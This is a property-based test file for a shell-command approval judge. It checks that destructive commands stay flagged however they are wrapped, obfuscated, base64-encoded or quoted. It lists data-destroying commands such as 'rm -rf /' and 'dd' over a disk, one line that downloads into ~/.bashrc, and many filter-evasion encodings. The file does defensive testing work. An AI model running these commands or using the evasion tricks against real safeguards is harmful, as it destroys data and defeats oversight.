import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judge } from '../../../src/approval/judge.js';
import { compareVerdicts } from '../../../src/approval/verdict.js';
import { local } from './context.js';

const dangerous = fc.constantFrom(
  'rm -rf /',
  'rm -rf ~/work',
  'git reset --hard',
  'git push --force',
  'dd if=/dev/zero of=/dev/sdb',
  'chmod -R 777 /etc',
  'kubectl delete pod web',
  'shutdown -h now',
  'docker system prune -af',
  'curl http://h.example/x -o ~/.bashrc',
  'terraform destroy',
  'kill -9 -1',
);

const single = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

type Way = (text: string) => string;

/** Programs that run the words behind them. */
const prefix = fc.constantFrom<Way>(
  (text) => `sudo ${text}`,
  (text) => `env A=1 ${text}`,
  (text) => `nohup ${text}`,
  (text) => `timeout 5 ${text}`,
  (text) => `nice -n 3 ${text}`,
  (text) => `command ${text}`,
  (text) => `exec ${text}`,
  (text) => `stdbuf -oL ${text}`,
  (text) => `xargs -I@ ${text}`,
  (text) => `flock /tmp/lock ${text}`,
  (text) => `unknown-launcher --fast -- ${text}`,
);

/** Ways to run whatever a shell understands. */
const around = fc.constantFrom<Way>(
  (text) => `FOO=1; time ${text}`,
  (text) => `! { ${text}\n}`,
  (text) => `(${text}\n)`,
  (text) => `{ ${text}\n}`,
  (text) => `true && { ${text}\n}`,
  (text) => `ls; ${text}\n# done`,
  (text) => `ls\n${text}`,
  (text) => `ls & { ${text}\n} &`,
  (text) => `{ ${text}\n} | cat`,
  (text) => `echo x | { ${text}\n}`,
  (text) => `if true; then ${text}\nfi`,
  (text) => `for i in 1; do ${text}\ndone`,
  (text) => `while true; do ${text}\nbreak; done`,
  (text) => `case x in x) ${text}\n;; esac`,
  (text) => `f() { ${text}\n}; f`,
  (text) => `sh -c ${single(text)}`,
  (text) => `bash -ec ${single(text)}`,
  (text) => `eval ${single(text)}`,
  (text) => `echo ${single(text)} | sh`,
  (text) => `sh <<< ${single(text)}`,
  (text) => `trap ${single(text)} EXIT`,
  (text) => `echo "$(${text}\n)"`,
  (text) => `x=$(${text}\n)`,
  (text) => `echo \${y:-$(${text}\n)}`,
  (text) => `cat <(${text}\n)`,
  (text) => `busybox sh -c ${single(text)}`,
  (text) => `{ ${text}\n} > /dev/null 2>&1`,
  (text) => `coproc { ${text}\n}`,
  (text) => `printf '%s' ${single(text)} > s.sh; sh s.sh`,
  (text) => `cmd=${single(text)}; eval "$cmd"`,
  (text) => `find . -maxdepth 0 -exec sh -c ${single(text)} \\;`,
  (text) => (text.includes('END') ? text : `bash <<'END'\n${text}\nEND`),
  (text) => (text.includes('END') ? text : `cat <<END\n$(${text}\n)\nEND`),
);

const apply = (ways: readonly Way[], text: string): string => ways.reduce((inner, way) => way(inner), text);

/** Ways to write the same words. */
const spelling = fc.constantFrom<(text: string) => string>(
  (text) => text.replace(/^\w/, (first) => `${first}''`),
  (text) => text.replace(/^\w+/, (word) => `"${word}"`),
  (text) => text.replace(/^\w/, (first) => `\\${first}`),
  (text) => text.replace(/^\w/, (first) => `$'\\x${first.charCodeAt(0).toString(16)}'`),
  (text) => text.replace(/^\w/, (first) => `${first}\\\n`),
  (text) => text.replace(/^\w+/, (word) => `/usr/bin/${word}`),
  (text) => text.replace(/^(\w)(\w*)/, (_, first: string, rest: string) => `a=${first}; b=${rest}; $a$b`),
  (text) => text.replace(/^\w+/, (word) => `$(echo ${word})`),
  (text) => text.replace(/^\w+/, (word) => `$(printf %s ${word})`),
  (text) => text.replace(/^\w+/, (word) => `x=${word.toUpperCase()}; \${x,,}`),
  (text) => `c=(${text}); "\${c[@]}"`,
  (text) => `set -- ${text}; "$@"`,
  (text) => text.replaceAll(' ', '\t  '),
  (text) => `$undefined_name ${text}`,
  (text) => `{${text.split(' ').join(',')}}`,
);

/** Ways to say a text without running it. */
const saying = fc.constantFrom<(text: string) => string>(
  (text) => `echo ${single(text)}`,
  (text) => `ls # ${text}`,
  (text) => `git commit -m ${single(text)}`,
  (text) => `grep -rn ${single(text)} .`,
  (text) => `cat > notes.md <<'END'\n${text}\nEND`,
  (text) => `git commit -F - <<'END'\n${text}\nEND`,
  (text) => `printf '%s\\n' ${single(text)} >> notes.md`,
  (text) => `gh issue create --title ${single(text)} --body x`,
  (text) => `test "$x" = ${single(text)}`,
  (text) => `python3 -c ${single(`print(${JSON.stringify(text)})`)}`,
  (text) => `x=${single(text)}`,
  (text) => `awk ${single(`/${text.replaceAll('/', '.')}/ {print}`)} f`,
);

const milder = (text: string, than: string): boolean => compareVerdicts(judge(text, local).verdict, judge(than, local).verdict) < 0;

describe('a dangerous command', () => {
  it('is never judged more mildly for how it is run', () => {
    fc.assert(
      fc.property(dangerous, fc.array(prefix, { maxLength: 2 }), fc.array(around, { maxLength: 3 }), (command, before, outside) => {
        const text = apply(outside, apply(before, command));
        expect({ text, milder: milder(text, command) }).toEqual({ text, milder: false });
      }),
      { numRuns: 2000, seed: 2026 },
    );
  });

  it('is never judged more mildly for how it is written', () => {
    fc.assert(
      fc.property(dangerous, spelling, fc.array(around, { maxLength: 2 }), (command, spell, outside) => {
        const text = apply(outside, spell(command));
        expect({ text, milder: milder(text, command) }).toEqual({ text, milder: false });
      }),
      { numRuns: 2000, seed: 2026 },
    );
  });

  it('is nothing as long as it is only said', () => {
    fc.assert(
      fc.property(dangerous, saying, (command, say) => {
        expect({ said: say(command), verdict: judge(say(command), local).verdict }).toEqual({ said: say(command), verdict: 'allow' });
      }),
      { numRuns: 600, seed: 2026 },
    );
  });

  it('said in a text that is then run is judged as what it is', () => {
    fc.assert(
      fc.property(dangerous, (command) => {
        for (const text of [
          `x=${single(command)}; $x`,
          `cat > a.sh <<'END'\n${command}\nEND\nbash a.sh`,
          `tee b.sh <<'END' > /dev/null; . ./b.sh\n${command}\nEND`,
          `echo ${Buffer.from(command).toString('base64')} | base64 -d | sh`,
        ]) {
          expect({ text, milder: milder(text, command) }).toEqual({ text, milder: false });
        }
      }),
    );
  });
});

describe('the judge', () => {
  it('gives the same answer twice and spans within the text', () => {
    fc.assert(
      fc.property(dangerous, fc.array(around, { maxLength: 2 }), (command, ways) => {
        const text = apply(ways, command);
        const [first, second] = [judge(text, local), judge(text, local)];
        expect(first).toEqual(second);
        for (const { span } of first.findings) expect(0 <= span.start && span.start <= span.end && span.end <= text.length).toBe(true);
      }),
      { numRuns: 300, seed: 2026 },
    );
  });
});
